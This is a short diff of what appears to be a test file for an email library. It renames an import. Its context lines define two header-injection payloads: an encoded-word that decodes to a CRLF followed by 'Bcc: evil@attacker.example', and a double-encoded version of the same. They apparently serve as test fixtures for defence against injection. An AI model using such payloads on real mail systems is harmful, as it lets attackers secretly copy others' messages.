@@ -36,7 +36,7 @@ from postern.core.mail import delivery, headers, outbound
 from postern.core.models import Message
 from postern.plugins.acs.mapping import email_body
 from postern.plugins.acs.options import AcsOptions
-from postern.plugins.smtp_local import receiver as smtp
+from postern.plugins.smtp_local import intake as smtp
 
 EVIL = "=?utf-8?q?hi=0D=0ABcc:_evil@attacker.example?="  # decodes to "hi\r\nBcc: evil@…"
 TWICE = "=?utf-8?b?" + base64.b64encode(EVIL.encode()).decode() + "?="  # decodes to EVIL
